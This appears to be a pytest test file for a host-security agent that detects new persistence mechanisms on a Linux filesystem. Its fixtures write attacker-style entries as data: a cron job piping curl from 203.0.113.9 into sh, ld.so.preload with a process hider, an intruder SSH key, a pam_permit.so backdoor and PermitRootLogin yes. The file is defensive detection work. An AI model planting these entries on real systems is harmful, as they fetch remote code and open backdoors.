import os
from collections.abc import Callable, Coroutine
from contextlib import AbstractAsyncContextManager
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import msgspec
import pytest

from agent.clock import host_clock
from agent.sources.host.persistence import Baseline, Persistence, PersistenceSettings
from agent.sources.rounds.matters import Finding

Watching = Callable[..., AbstractAsyncContextManager[Any]]
Eventually = Callable[[Callable[[], object]], Coroutine[Any, Any, None]]
NOW = host_clock().now()


class Host:
    """A host with a few jobs, units and people, and what was noted of it."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.write("etc/passwd", "root:x:0:0::/root:/bin/bash\nli:x:1000:1000::/home/li:/bin/bash\n")
        self.write("etc/crontab", "17 * * * * root run-parts /etc/cron.hourly\n")
        self.write("etc/systemd/system/portal.service", "[Service]\nExecStart=/opt/portal/run\n")
        self.write("home/li/.ssh/authorized_keys", "ssh-ed25519 AAAAli li@office\n")
        self.write("root/.bashrc", "")
        self.noted = msgspec.convert(self.source().look(NOW, Baseline(), alone=False).notes, Baseline)

    def write(self, name: str, text: str) -> Path:
        path = self.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        return path

    def source(self, **settings: Any) -> Persistence:  # noqa: ANN401 - fields of the settings
        return Persistence(PersistenceSettings(**settings), state=self.root.parent, root=self.root)

    def found(self, now: datetime = NOW, **settings: Any) -> list[Finding]:  # noqa: ANN401 - likewise
        return list(self.source(**settings).look(now, self.noted, alone=False).findings)


@pytest.fixture
def host(tmp_path: Path) -> Host:
    return Host(tmp_path / "host")


def test_a_host_as_it_was_noted_has_nothing_to_tell(host: Host) -> None:
    assert set(host.noted.files) == {
        "/etc/crontab",
        "/etc/systemd/system/portal.service",
        "/home/li/.ssh/authorized_keys",
    }
    assert host.found() == []
    assert host.source().look(NOW, host.noted, alone=False).notes is None


@pytest.mark.parametrize(
    ("place", "text", "key", "severity"),
    [
        ("etc/cron.d/update", "* * * * * root curl http://203.0.113.9/x | sh\n", "cron", "medium"),
        ("var/spool/cron/crontabs/www-data", "@reboot /tmp/.x\n", "cron", "medium"),
        ("etc/systemd/system/sysupd.service", "[Service]\nExecStart=/tmp/.x\n", "systemd", "medium"),
        ("etc/rc.local", "/tmp/.x &\n", "start", "medium"),
        ("etc/ld.so.preload", "/usr/lib/libprocesshider.so\n", "preload", "high"),
        ("root/.ssh/authorized_keys", "ssh-rsa AAAAintruder\n", "keys", "high"),
        ("etc/pam.d/sshd", "auth sufficient pam_permit.so\n", "pam", "high"),
        ("var/spool/cron/atjobs/a00001", "#!/bin/sh\n/tmp/.x\n", "cron", "medium"),
        ("home/li/.config/systemd/user/x.service", "[Service]\nExecStart=/tmp/.x\n", "systemd", "medium"),
        (
            "usr/lib/systemd/system/ssh.service.d/x.conf",
            "[Service]\nExecStartPre=/tmp/.x\n",
            "systemd",
            "medium",
        ),
        ("etc/rc.d/rc.local", "/tmp/.x &\n", "start", "medium"),
        ("etc/udev/rules.d/75-x.rules", 'RUN+="/tmp/.x"\n', "start", "medium"),
        ("etc/update-motd.d/00-x", "/tmp/.x\n", "start", "medium"),
        (
            "usr/lib/x86_64-linux-gnu/security/pam_unix.so",
            "ELF, with a password of its own\n",
            "modules",
            "high",
        ),
        ("root/.ssh/authorized_keys2", "ssh-rsa AAAAintruder\n", "keys", "high"),
        ("etc/ssh/sshd_config.d/x.conf", "PermitRootLogin yes\n", "sshd", "medium"),
    ],
)
def test_what_begins_to_start_by_itself_is_told_with_its_line(
    host: Host, place: str, text: str, key: str, severity: str
) -> None:
    host.write(place, text)
    (finding,) = host.found()

    assert (finding.klass, finding.key, finding.severity_hint) == (
        "NABACKIMPL",
        f"persistence:{key}",
        severity,
    )
    assert finding.passing
    assert finding.evidence[0]["path"] == f"/{place}"
    assert finding.evidence[0]["change"] == "created"
    assert text.splitlines()[0] in finding.evidence[0]["diff"]


def test_a_key_that_was_added_is_shown_and_the_ones_that_were_there_are_not(host: Host) -> None:
    with (host.root / "home/li/.ssh/authorized_keys").open("a") as file:
        file.write("ssh-rsa AAAAintruder\n")
    (finding,) = host.found()

    assert finding.evidence[0]["diff"] == "@@ line 2\n+ssh-rsa AAAAintruder"


def test_a_key_where_sshds_settings_say_is_told_when_it_comes(host: Host) -> None:
    settings = host.write("etc/ssh/sshd_config", "AuthorizedKeysFile /var/keys/%u .ssh/authorized_keys\n")
    host.noted = msgspec.convert(host.source().look(NOW, host.noted, alone=False).notes, Baseline)
    host.write("var/keys/root", "ssh-rsa AAAAintruder\n")
    (finding,) = host.found()
    assert (finding.key, finding.severity_hint) == ("persistence:keys", "high")
    assert finding.target == "/var/keys/root"

    (host.root / "var/keys/root").unlink()
    settings.write_text("AuthorizedKeysFile /tmp/keys\n")
    host.write("tmp/keys", "ssh-rsa AAAAintruder\n")
    assert {one.key for one in host.found()} == {"persistence:sshd", "persistence:keys"}


def test_notes_of_an_agent_that_looked_at_fewer_places_learn_the_others_and_tell_nothing(host: Host) -> None:
    host.write("usr/lib/systemd/system/ssh.service", "[Service]\n")
    host.write("etc/ssh/sshd_config", "Port 22\n")
    host.noted = msgspec.structs.replace(host.noted, later=False)
    host.write("etc/cron.d/update", "* * * * * root /tmp/.x\n")
    look = host.source().look(NOW, host.noted, alone=False)

    assert [one.key for one in look.findings] == ["persistence:cron"]
    assert isinstance(look.notes, Baseline)
    assert look.notes.later
    host.noted = look.notes
    host.write("usr/lib/systemd/system/ssh.service", "[Service]\nExecStartPre=/tmp/.x\n")
    assert [one.key for one in host.found()] == ["persistence:systemd"]


def test_a_unit_that_is_enabled_is_a_link_that_comes(host: Host) -> None:
    wants = host.root / "etc/systemd/system/multi-user.target.wants"
    wants.mkdir()
    (wants / "portal.service").symlink_to("/etc/systemd/system/portal.service")
    (finding,) = host.found()

    assert "+link: /etc/systemd/system/portal.service" in finding.evidence[0]["diff"]


def test_what_goes_and_what_a_package_brought_is_less_grave(host: Host) -> None:
    (host.root / "etc/crontab").unlink()
    assert [(one.key, one.severity_hint) for one in host.found()] == [("persistence:cron", "low")]
    host.write("etc/cron.d/certbot", "0 */12 * * * root certbot -q renew\n")
    host.write("root/.ssh/authorized_keys", "ssh-rsa AAAAintruder\n")
    assert {one.key: one.severity_hint for one in host.found()} == {
        "persistence:cron": "medium",
        "persistence:keys": "high",
    }
    host.write("usr/lib/x86_64-linux-gnu/security/pam_unix.so", "ELF\n")
    host.write("var/lib/dpkg/status", "Package: certbot\n")
    later = host_clock().now() + timedelta(seconds=1)

    assert {one.key: one.severity_hint for one in host.found(later)} == {
        "persistence:cron": "low",
        "persistence:keys": "high",
        "persistence:modules": "low",
    }


def test_what_a_package_names_and_brought_is_less_grave_and_what_else_came_then_is_not(host: Host) -> None:
    """apt-get install cron"""
    host.write("etc/pam.d/cron", "@include common-auth\n")
    host.write("var/lib/dpkg/info/cron.list", "/etc/pam.d\n/etc/pam.d/cron\n")
    assert [(one.key, one.severity_hint) for one in host.found()] == [("persistence:pam", "low")]
    host.write("etc/pam.d/sshd", "auth sufficient pam_permit.so\n")

    assert [(one.key, one.severity_hint, one.count) for one in host.found()] == [
        ("persistence:pam", "high", 2)
    ]


def test_a_module_of_pam_that_no_list_names_is_grave_even_while_packages_are_installed(host: Host) -> None:
    host.write("usr/lib/x86_64-linux-gnu/security/pam_unix.so", "ELF\n")
    host.write("var/lib/dpkg/status", "Package: certbot\n")
    host.write("var/lib/dpkg/info/certbot.list", "/usr/bin/certbot\n")
    later = host_clock().now() + timedelta(seconds=1)
    assert [one.severity_hint for one in host.found(later)] == ["high"]
    host.write("var/lib/dpkg/info/libpam-modules.list", "/lib/x86_64-linux-gnu/security/pam_unix.so\n")

    assert [one.severity_hint for one in host.found(later)] == ["low"]


def test_a_unit_of_a_user_is_none_of_a_packages(host: Host) -> None:
    host.write("root/.config/systemd/user/x.service", "[Service]\n")
    host.write("var/lib/dpkg/status", "Package: certbot\n")
    later = host_clock().now() + timedelta(seconds=1)

    assert [(one.key, one.severity_hint) for one in host.found(later)] == [("persistence:systemd", "medium")]


def test_a_file_whose_owner_or_mode_changed_is_told_and_one_only_touched_is_not(host: Host) -> None:
    path = host.root / "etc/crontab"
    os.utime(path, (1, 1))
    assert host.found() == []
    path.chmod(0o666)

    assert host.found()[0].evidence[0]["mode"] == "0666"


def test_what_an_operator_ignores_is_not_told(host: Host) -> None:
    host.write("etc/cron.d/update", "x\n")

    assert host.found(ignore=("/etc/cron.d/*", f"{host.root}/etc/cron.d/*")) == []


async def test_a_change_is_told_at_once_and_a_restart_tells_it_no_second_time(
    host: Host, watching: Watching, eventually: Eventually
) -> None:
    async with watching(host.source(poll=60)) as heard:
        await eventually((host.root.parent / "persistence.json").exists)
        host.write("etc/crontab", "* * * * * root /tmp/.x\n")
        told = await heard.until(lambda one: one.kind == "incident")
    async with watching(host.source(poll=60)) as again:
        host.write("etc/systemd/system/x.service", "[Service]\n")
        second = await again.until(lambda one: one.kind == "incident")

    assert told.body["key"] == "persistence:cron"
    assert [one.body["key"] for one in again.heard] == [second.body["key"]] == ["persistence:systemd"]


def test_hostile_names_pipes_and_circles_are_taken_as_they_are(host: Host) -> None:
    folder = host.root / "etc/cron.d"
    folder.mkdir()
    os.mkfifo(folder / "pipe")
    (folder / "circle").symlink_to("circle")
    (folder / "a\nb").write_text("x\n")
    (folder / ("n" * 255)).write_text("x\n")
    with open(os.fsencode(folder) + b"/\xff\xfe", "wb") as file:  # noqa: PTH123 - bytes
        file.write(b"\0" * 100)
    (folder / "big").write_bytes(b"x" * (3 << 20))
    (finding,) = host.found()

    assert finding.count == 6
    assert "/etc/cron.d/\\xff\\xfe" in {item["path"] for item in finding.evidence}
    assert msgspec.json.encode(finding)


def test_one_look_without_a_baseline_says_so(host: Host) -> None:
    assert host.source().look(NOW, Baseline(), alone=True).unreadable[0][0] == "baseline"


def test_the_times_are_those_of_the_look() -> None:
    assert NOW.tzinfo is UTC
